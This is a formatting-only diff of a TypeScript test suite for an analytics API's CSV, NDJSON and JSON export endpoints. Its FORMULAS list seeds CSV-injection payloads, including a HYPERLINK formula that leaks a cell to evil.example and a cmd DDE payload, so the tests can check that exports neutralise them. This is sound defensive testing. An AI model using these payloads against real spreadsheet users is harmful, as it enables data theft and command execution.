@@ -14,9 +14,25 @@ import { parseCsv } from '../support/csv.js';
 const TOKEN = 'e'.repeat(40);
 const TRICKY = 'Acme, "the best"\nsecond line\r\nthird, with "quotes"';
 /** Texts a spreadsheet would run (OWASP's CSV injection), as answers of the first day; the first is also a prompt. */
-const FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1',
-  '\n=1+1', ' =1+1', '\u00a0=1+1', '\u3000=1+1', '\ufeff=1+1', '\uff1d1+1', '\uff0b1+1', '\uff0d1+1', '\uff20SUM(1+1)', ' \u00a0\u3000@SUM(1)',
-  '\u200b=1+1'];
+const FORMULAS = [
+  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+  "+1+cmd|' /C calc'!A0",
+  '-2+3',
+  '@SUM(1+1)',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  ' =1+1',
+  '\u00a0=1+1',
+  '\u3000=1+1',
+  '\ufeff=1+1',
+  '\uff1d1+1',
+  '\uff0b1+1',
+  '\uff0d1+1',
+  '\uff20SUM(1+1)',
+  ' \u00a0\u3000@SUM(1)',
+  '\u200b=1+1',
+];
 let t: TestApp;
 let key: string;
 let projectId: string;
@@ -25,39 +41,77 @@ const taken = new Map<string, number>();
 let takes = 0;
 let failingTake = -1;
 
-const exported = (path: string, accept: string, apiKey = key) => t.get(`/api/v1/ai-visibility/projects/${projectId}${path}`, apiKey, { headers: { accept } });
+const exported = (path: string, accept: string, apiKey = key) =>
+  t.get(`/api/v1/ai-visibility/projects/${projectId}${path}`, apiKey, { headers: { accept } });
 
 beforeAll(async () => {
   const store = memoryRateLimitStore();
-  const counting = { take: (buckets: Parameters<typeof store.take>[0], nowMs: number, cost = 1) => {
-    // Counted by the request's own bucket (the key's; the workspace's is spent alongside).
-    if (cost > 0) taken.set(buckets[0]!.key, (taken.get(buckets[0]!.key) ?? 0) + cost);
-    if (++takes === failingTake) return Promise.reject(new Error('rate-limit store down'));
-    return store.take(buckets, nowMs, cost);
-  } };
+  const counting = {
+    take: (buckets: Parameters<typeof store.take>[0], nowMs: number, cost = 1) => {
+      // Counted by the request's own bucket (the key's; the workspace's is spent alongside).
+      if (cost > 0) taken.set(buckets[0]!.key, (taken.get(buckets[0]!.key) ?? 0) + cost);
+      if (++takes === failingTake) return Promise.reject(new Error('rate-limit store down'));
+      return store.take(buckets, nowMs, cost);
+    },
+  };
   t = await createTestApp({ INGEST_TOKEN: TOKEN, METRICS_ROW_CAP: '2', LIST_ROW_CAP: '50' }, { store: counting });
   const keyed = await createKeyedWorkspace(t.database, { plan: 'scale' });
   key = keyed.key.secret;
-  projectId = (await t.database.prisma.aiProject.create({
-    data: { id: newId('project'), workspaceId: keyed.workspace.id, name: 'Export', brand: 'Acme', competitors: ['Globex'], models: ['chatgpt'], locales: ['en-US', 'de-DE'], domains: ['acme.com'] },
-  })).id;
+  projectId = (
+    await t.database.prisma.aiProject.create({
+      data: {
+        id: newId('project'),
+        workspaceId: keyed.workspace.id,
+        name: 'Export',
+        brand: 'Acme',
+        competitors: ['Globex'],
+        models: ['chatgpt'],
+        locales: ['en-US', 'de-DE'],
+        domains: ['acme.com'],
+      },
+    })
+  ).id;
   // 5 scans × 500 runs = 2 500 answers; the first answer's text needs every kind of quoting.
   const lines = ['2026-10-01', '2026-10-02', '2026-10-03', '2026-10-04'].map((date, day) => ({
-    project: projectId, date, model: 'chatgpt', locale: 'en-US',
+    project: projectId,
+    date,
+    model: 'chatgpt',
+    locale: 'en-US',
     runs: Array.from({ length: 500 }, (_, index) => ({
-      prompt: index === 1 ? FORMULAS[0]! : `prompt ${index}`, answer: day === 0 && index === 0 ? TRICKY : (day === 0 && FORMULAS[index - 1]) || `answer ${day}/${index}`, brandMentions: index % 3 === 0 ? 1 : 0, totalMentions: 2,
-      position: index % 3 === 0 ? 1 : null, sentiment: index % 3 === 0 ? 'positive' : null,
+      prompt: index === 1 ? FORMULAS[0]! : `prompt ${index}`,
+      answer: day === 0 && index === 0 ? TRICKY : (day === 0 && FORMULAS[index - 1]) || `answer ${day}/${index}`,
+      brandMentions: index % 3 === 0 ? 1 : 0,
+      totalMentions: 2,
+      position: index % 3 === 0 ? 1 : null,
+      sentiment: index % 3 === 0 ? 'positive' : null,
       citations: index % 2 ? [{ url: `https://site${index % 7}.example.com/${index}`, title: 'T, "x"' }] : [],
       // Nested text JSON must escape, and characters PostgreSQL and JSON.stringify could write differently.
-      ...(index % 5 === 0 ? {
-        competitors: [{ name: 'Globex', mentions: 1, position: 2 }],
-        searchQueries: [`acme vs "globex", ${index}`, 'back\\slash / ünïcödé ✓ 😀 \u2028 tab\tend'],
-        retrieved: [{ url: `https://site${index % 7}.example.com/${index}`, title: 'T, "x"\nline two' }, { url: 'https://read.example.org/a?b=1&c=%22', title: null }],
-      } : {}),
+      ...(index % 5 === 0
+        ? {
+            competitors: [{ name: 'Globex', mentions: 1, position: 2 }],
+            searchQueries: [`acme vs "globex", ${index}`, 'back\\slash / ünïcödé ✓ 😀 \u2028 tab\tend'],
+            retrieved: [
+              { url: `https://site${index % 7}.example.com/${index}`, title: 'T, "x"\nline two' },
+              { url: 'https://read.example.org/a?b=1&c=%22', title: null },
+            ],
+          }
+        : {}),
     })),
   }));
-  lines.push({ project: projectId, date: '2026-10-01', model: 'chatgpt', locale: 'de-DE', runs: lines[0]!.runs.slice(0, 500) });
-  const response = await t.app.fetch(new Request('http://test.local/internal/ingest/scans', { method: 'POST', headers: { authorization: `Bearer ${TOKEN}` }, body: lines.map((line) => JSON.stringify(line)).join('\n') }));
+  lines.push({
+    project: projectId,
+    date: '2026-10-01',
+    model: 'chatgpt',
+    locale: 'de-DE',
+    runs: lines[0]!.runs.slice(0, 500),
+  });
+  const response = await t.app.fetch(
+    new Request('http://test.local/internal/ingest/scans', {
+      method: 'POST',
+      headers: { authorization: `Bearer ${TOKEN}` },
+      body: lines.map((line) => JSON.stringify(line)).join('\n'),
+    }),
+  );
   expect(response.status, await response.clone().text()).toBe(200);
 });
 afterAll(() => t.close());
@@ -107,10 +161,27 @@ describe('negotiation and quoting', () => {
     expect(csvField('\r=1')).toBe(`"'\r=1"`);
     expect(csvField('=HYPERLINK("x","y")')).toBe(`"'=HYPERLINK(""x"",""y"")"`);
     expect(csvField('\n=1')).toBe(`"'\n=1"`);
-    for (const lead of [' ', '  ', '\u00a0', '\u3000', '\ufeff', '\u2003']) expect(csvField(`${lead}=1`)).toBe(`'${lead}=1`);
+    for (const lead of [' ', '  ', '\u00a0', '\u3000', '\ufeff', '\u2003'])
+      expect(csvField(`${lead}=1`)).toBe(`'${lead}=1`);
     // Invisible leads: zero-width space, joiners, direction marks and isolates, word joiner, soft hyphen, controls.
-    for (const lead of ['\u200b', '\u200c\u200d', '\u200e', '\u200f', '\u202e', '\u2066', '\u2060', '\u00ad', '\u0000', '\u001f',
-      '\u034f', '\u180e', '\u3164', '\ufe0f', '\u200b \u2060\u00a0']) expect(csvField(`${lead}=1+1`)).toBe(`'${lead}=1+1`);
+    for (const lead of [
+      '\u200b',
+      '\u200c\u200d',
+      '\u200e',
+      '\u200f',
+      '\u202e',
+      '\u2066',
+      '\u2060',
+      '\u00ad',
+      '\u0000',
+      '\u001f',
+      '\u034f',
+      '\u180e',
+      '\u3164',
+      '\ufe0f',
+      '\u200b \u2060\u00a0',
+    ])
+      expect(csvField(`${lead}=1+1`)).toBe(`'${lead}=1+1`);
     for (const fullWidth of ['＝1', '＋1', '－1', '＠SUM(A1)']) expect(csvField(fullWidth)).toBe(`'${fullWidth}`);
     expect(csvField(' a=1')).toBe(' a=1');
     expect(csvField('a=1')).toBe('a=1');
@@ -125,9 +196,14 @@ describe('answers', () => {
     expect(response.status).toBe(200);
     expect(response.headers.get('content-type')).toBe('application/x-ndjson; charset=utf-8');
     expect(response.headers.get('content-disposition')).toBe(`attachment; filename="answers-${projectId}.ndjson"`);
-    const records = (await response.text()).trimEnd().split('\n').map((line) => JSON.parse(line));
+    const records = (await response.text())
+      .trimEnd()
+      .split('\n')
+      .map((line) => JSON.parse(line));
     expect(records).toHaveLength(2500);
-    const firstPage = (await json(await exported('/answers?dateFrom=2026-10-01&dateTo=2026-10-31&limit=500', 'application/json'))).data;
+    const firstPage = (
+      await json(await exported('/answers?dateFrom=2026-10-01&dateTo=2026-10-31&limit=500', 'application/json'))
+    ).data;
     expect(records.slice(0, 500)).toEqual(firstPage);
     expect(new Set(records.map((record) => record.id)).size).toBe(2500);
   });
@@ -136,25 +212,52 @@ describe('answers', () => {
     const response = await exported('/answers?dateFrom=2026-10-01&dateTo=2026-10-01&locale=en-US', 'text/csv');
     expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
     const [header, ...rows] = parseCsv(await response.text());
-    expect(header).toEqual(['id', 'projectId', 'promptId', 'prompt', 'date', 'model', 'locale', 'text', 'brandMentions', 'totalMentions', 'position', 'sentiment', 'competitors', 'citations', 'searchQueries', 'retrieved']);
+    expect(header).toEqual([
+      'id',
+      'projectId',
+      'promptId',
+      'prompt',
+      'date',
+      'model',
+      'locale',
+      'text',
+      'brandMentions',
+      'totalMentions',
+      'position',
+      'sentiment',
+      'competitors',
+      'citations',
+      'searchQueries',
+      'retrieved',
+    ]);
     expect(rows).toHaveLength(500);
     const tricky = rows.find((row) => row[7] === TRICKY)!;
     expect(tricky).toBeDefined();
-    const asJson = (await json(await t.get(`/api/v1/ai-visibility/projects/${projectId}/answers/${tricky[0]}`, key))).data;
+    const asJson = (await json(await t.get(`/api/v1/ai-visibility/projects/${projectId}/answers/${tricky[0]}`, key)))
+      .data;
     // Nested values are JSON as stored (spacing may differ): equal once parsed.
     const nested = (value: unknown) => value !== null && typeof value === 'object';
-    expect(tricky.map((cell, index) => nested(asJson[header![index]!]) ? JSON.parse(cell) : cell)).toEqual(header!.map((column) => csvField(asJson[column]) === '' ? '' : nested(asJson[column]) ? asJson[column] : String(asJson[column])));
+    expect(tricky.map((cell, index) => (nested(asJson[header![index]!]) ? JSON.parse(cell) : cell))).toEqual(
+      header!.map((column) =>
+        csvField(asJson[column]) === '' ? '' : nested(asJson[column]) ? asJson[column] : String(asJson[column]),
+      ),
+    );
     expect(JSON.parse(rows.find((row) => row[13] !== '[]')![13]!)[0]).toMatchObject({ title: 'T, "x"' });
   });
 
   it('write nested values in CSV cells and NDJSON lines as JSON that parses to what JSON answers', async () => {
     const path = '/answers?dateFrom=2026-10-02&dateTo=2026-10-02';
     const [header, ...rows] = parseCsv(await (await exported(path, 'text/csv')).text());
-    const records = (await (await exported(path, 'application/x-ndjson')).text()).trimEnd().split('\n').map((line) => JSON.parse(line));
+    const records = (await (await exported(path, 'application/x-ndjson')).text())
+      .trimEnd()
+      .split('\n')
+      .map((line) => JSON.parse(line));
     const page = (await json(await exported(`${path}&limit=500`, 'application/json'))).data;
     expect(records).toEqual(page);
     const nested = ['competitors', 'citations', 'searchQueries', 'retrieved'];
-    const full = page.filter((answer: Record<string, unknown[]>) => nested.every((column) => answer[column]!.length > 0));
+    const full = page.filter((answer: Record<string, unknown[]>) =>
+      nested.every((column) => answer[column]!.length > 0),
+    );
     expect(full.length).toBeGreaterThan(10);
     for (const answer of full) {
       const row = rows.find((cells) => cells[0] === answer.id)!;
@@ -177,15 +280,40 @@ describe('answers', () => {
       expect(rows.filter((row) => row[text] === `'${formula}`)).toHaveLength(1);
     }
     expect(rows.filter((row) => row[prompt] === `'${FORMULAS[0]}`)).toHaveLength(1);
-    expect(rows.flat().filter((cell) => /^(?:[\t\r\n]|[\s\p{Cc}\p{Cf}\p{Default_Ignorable_Code_Point}]*[=+\-@＝＋－＠])/u.test(cell))).toEqual([]);
-    const records = (await (await exported(path, 'application/x-ndjson')).text()).trimEnd().split('\n').map((line) => JSON.parse(line));
-    expect(records.map((record) => record.text).filter((value: string) => FORMULAS.includes(value))).toHaveLength(FORMULAS.length);
+    expect(
+      rows
+        .flat()
+        .filter((cell) => /^(?:[\t\r\n]|[\s\p{Cc}\p{Cf}\p{Default_Ignorable_Code_Point}]*[=+\-@＝＋－＠])/u.test(cell)),
+    ).toEqual([]);
+    const records = (await (await exported(path, 'application/x-ndjson')).text())
+      .trimEnd()
+      .split('\n')
+      .map((line) => JSON.parse(line));
+    expect(records.map((record) => record.text).filter((value: string) => FORMULAS.includes(value))).toHaveLength(
+      FORMULAS.length,
+    );
     expect(records.filter((record) => record.prompt === FORMULAS[0])).toHaveLength(1);
   });
 
   it('apply the same filters as JSON', async () => {
-    const mentioned = (await (await exported('/answers?dateFrom=2026-10-01&dateTo=2026-10-31&mentioned=true&locale=en-US', 'application/x-ndjson')).text()).trimEnd().split('\n');
-    const total = (await json(await exported('/answers?dateFrom=2026-10-01&dateTo=2026-10-31&mentioned=true&locale=en-US', 'application/json'))).meta.total;
+    const mentioned = (
+      await (
+        await exported(
+          '/answers?dateFrom=2026-10-01&dateTo=2026-10-31&mentioned=true&locale=en-US',
+          'application/x-ndjson',
+        )
+      ).text()
+    )
+      .trimEnd()
+      .split('\n');
+    const total = (
+      await json(
+        await exported(
+          '/answers?dateFrom=2026-10-01&dateTo=2026-10-31&mentioned=true&locale=en-US',
+          'application/json',
+        ),
+      )
+    ).meta.total;
     expect(mentioned).toHaveLength(total);
     expect(total).toBe(4 * 167);
   });
@@ -199,7 +327,9 @@ describe('caps', () => {
     const capped = await json(await exported('/prompts?limit=500', 'application/json'));
     expect(capped.data).toHaveLength(50);
     expect(capped.meta).toEqual({ total: 500, truncated: true, nextCursor: expect.any(String) });
-    const page = await json(await exported('/answers?dateFrom=2026-10-01&dateTo=2026-10-31&limit=500', 'application/json'));
+    const page = await json(
+      await exported('/answers?dateFrom=2026-10-01&dateTo=2026-10-31&limit=500', 'application/json'),
+    );
     expect(page.data).toHaveLength(500);
     expect(page.meta).toMatchObject({ total: 2500, truncated: true, nextCursor: expect.any(String) });
   });
@@ -209,7 +339,12 @@ describe('metrics and sources', () => {
   it('metrics stream every row past the cap JSON applies', async () => {
     const page = await json(await exported('/metrics?dateFrom=2026-10-01&dateTo=2026-10-31', 'application/json'));
     expect(page.meta).toEqual({ total: 5, truncated: true });
-    const records = (await (await exported('/metrics?dateFrom=2026-10-01&dateTo=2026-10-31', 'application/x-ndjson')).text()).trimEnd().split('\n').map((line) => JSON.parse(line));
+    const records = (
+      await (await exported('/metrics?dateFrom=2026-10-01&dateTo=2026-10-31', 'application/x-ndjson')).text()
+    )
+      .trimEnd()
+      .split('\n')
+      .map((line) => JSON.parse(line));
     expect(records).toHaveLength(5);
     expect(records.slice(0, 2)).toEqual(page.data.rows);
     const csv = parseCsv(await (await exported('/metrics?dateFrom=2026-10-01&dateTo=2026-10-31', 'text/csv')).text());
@@ -218,17 +353,40 @@ describe('metrics and sources', () => {
   });
 
   it('sources stream every row, equal to JSON without its per-locale limit', async () => {
-    const page = await json(await exported('/sources?dateFrom=2026-10-01&dateTo=2026-10-31&limit=500', 'application/json'));
-    const records = (await (await exported('/sources?dateFrom=2026-10-01&dateTo=2026-10-31&limit=1', 'application/x-ndjson')).text()).trimEnd().split('\n').map((line) => JSON.parse(line));
+    const page = await json(
+      await exported('/sources?dateFrom=2026-10-01&dateTo=2026-10-31&limit=500', 'application/json'),
+    );
+    const records = (
+      await (await exported('/sources?dateFrom=2026-10-01&dateTo=2026-10-31&limit=1', 'application/x-ndjson')).text()
+    )
+      .trimEnd()
+      .split('\n')
+      .map((line) => JSON.parse(line));
     expect(records).toEqual(page.data.rows);
-    const byUrl = parseCsv(await (await exported('/sources?dateFrom=2026-10-01&dateTo=2026-10-31&groupBy=url', 'text/csv')).text());
-    expect(byUrl[0]).toEqual(['locale', 'domain', 'url', 'citations', 'answersCiting', 'citationShare', 'answerShare', 'retrievals', 'retrievedNotCited', 'owned', 'competitor']);
+    const byUrl = parseCsv(
+      await (await exported('/sources?dateFrom=2026-10-01&dateTo=2026-10-31&groupBy=url', 'text/csv')).text(),
+    );
+    expect(byUrl[0]).toEqual([
+      'locale',
+      'domain',
+      'url',
+      'citations',
+      'answersCiting',
+      'citationShare',
+      'answerShare',
+      'retrievals',
+      'retrievedNotCited',
+      'owned',
+      'competitor',
+    ]);
   });
 });
 
 describe('errors, rate limit and disconnects', () => {
   it('answers errors before the first byte with the JSON envelope', async () => {
-    const missing = await t.get(`/api/v1/ai-visibility/projects/${newId('project')}/answers`, key, { headers: { accept: 'text/csv' } });
+    const missing = await t.get(`/api/v1/ai-visibility/projects/${newId('project')}/answers`, key, {
+      headers: { accept: 'text/csv' },
+    });
     expect(missing.status).toBe(404);
     expect(missing.headers.get('content-type')).toContain('application/json');
     const bad = await exported('/answers?mentioned=perhaps', 'text/csv');
@@ -240,7 +398,10 @@ describe('errors, rate limit and disconnects', () => {
       const refused = await exported('/prompts', accept);
       expect(refused.status).toBe(406);
       expect(refused.headers.get('content-type')).toContain('application/json');
-      expect((await json(refused)).error).toMatchObject({ code: 'not_acceptable', message: expect.stringContaining('application/json only') });
+      expect((await json(refused)).error).toMatchObject({
+        code: 'not_acceptable',
+        message: expect.stringContaining('application/json only'),
+      });
     }
     expect((await exported('/prompts', 'text/csv, application/json;q=0.5')).status).toBe(200);
     expect((await exported('/prompts', 'text/csv, */*;q=0.1')).status).toBe(200);
@@ -262,8 +423,15 @@ describe('errors, rate limit and disconnects', () => {
     // Counted at connect, not by connections in use: the previous test's cursor may still be closing.
     const connects = vi.spyOn(t.database.streamPool, 'connect');
     try {
-      const head = await t.get(`/api/v1/ai-visibility/projects/${projectId}/answers`, key, { method: 'HEAD', headers: { accept: 'text/csv' } });
-      expect([head.status, head.headers.get('content-type'), await head.text()]).toEqual([200, 'text/csv; charset=utf-8; header=present', '']);
+      const head = await t.get(`/api/v1/ai-visibility/projects/${projectId}/answers`, key, {
+        method: 'HEAD',
+        headers: { accept: 'text/csv' },
+      });
+      expect([head.status, head.headers.get('content-type'), await head.text()]).toEqual([
+        200,
+        'text/csv; charset=utf-8; header=present',
+        '',
+      ]);
       expect(connects).not.toHaveBeenCalled();
     } finally {
       connects.mockRestore();
@@ -274,13 +442,26 @@ describe('errors, rate limit and disconnects', () => {
     const server = await listen(t.app);
     try {
       failingTake = takes + 2; // the request's own token passes, the next (rows 1 001–2 000) fails
-      const response = await fetch(`${server.baseUrl}/api/v1/ai-visibility/projects/${projectId}/answers?dateFrom=2026-10-01&dateTo=2026-10-31`, { headers: { authorization: `Bearer ${key}`, accept: 'application/x-ndjson' }, signal: AbortSignal.timeout(10_000) });
+      const response = await fetch(
+        `${server.baseUrl}/api/v1/ai-visibility/projects/${projectId}/answers?dateFrom=2026-10-01&dateTo=2026-10-31`,
+        {
+          headers: { authorization: `Bearer ${key}`, accept: 'application/x-ndjson' },
+          signal: AbortSignal.timeout(10_000),
+        },
+      );
       expect(response.status).toBe(200);
-      const error = await response.text().then(() => null, (failure: Error) => failure);
+      const error = await response.text().then(
+        () => null,
+        (failure: Error) => failure,
+      );
       expect(error?.name).not.toBe('TimeoutError');
       expect(error).toBeInstanceOf(TypeError);
-      expect((await fetch(`${server.baseUrl}/api/v1/clients`, { headers: { authorization: `Bearer ${key}` } })).status).toBe(200);
-      await expect.poll(() => t.database.streamPool.totalCount - t.database.streamPool.idleCount, { timeout: 5_000 }).toBe(0);
+      expect(
+        (await fetch(`${server.baseUrl}/api/v1/clients`, { headers: { authorization: `Bearer ${key}` } })).status,
+      ).toBe(200);
+      await expect
+        .poll(() => t.database.streamPool.totalCount - t.database.streamPool.idleCount, { timeout: 5_000 })
+        .toBe(0);
     } finally {
       failingTake = -1;
       await server.close();
@@ -291,12 +472,21 @@ describe('errors, rate limit and disconnects', () => {
     const server = await listen(t.app);
     try {
       const controller = new AbortController();
-      const response = await fetch(`${server.baseUrl}/api/v1/ai-visibility/projects/${projectId}/answers?dateFrom=2026-10-01&dateTo=2026-10-31`, { headers: { authorization: `Bearer ${key}`, accept: 'text/csv' }, signal: controller.signal });
+      const response = await fetch(
+        `${server.baseUrl}/api/v1/ai-visibility/projects/${projectId}/answers?dateFrom=2026-10-01&dateTo=2026-10-31`,
+        { headers: { authorization: `Bearer ${key}`, accept: 'text/csv' }, signal: controller.signal },
+      );
       const reader = response.body!.getReader();
       await reader.read();
       controller.abort();
       await reader.cancel().catch(() => {});
-      const open = async () => (await t.database.pool.query("SELECT count(*)::int AS n FROM pg_stat_activity WHERE application_name = $1 AND state <> 'idle'", [EXPORT_APPLICATION_NAME])).rows[0].n;
+      const open = async () =>
+        (
+          await t.database.pool.query(
+            "SELECT count(*)::int AS n FROM pg_stat_activity WHERE application_name = $1 AND state <> 'idle'",
+            [EXPORT_APPLICATION_NAME],
+          )
+        ).rows[0].n;
       await expect.poll(open, { timeout: 5_000 }).toBe(0);
     } finally {
       await server.close();
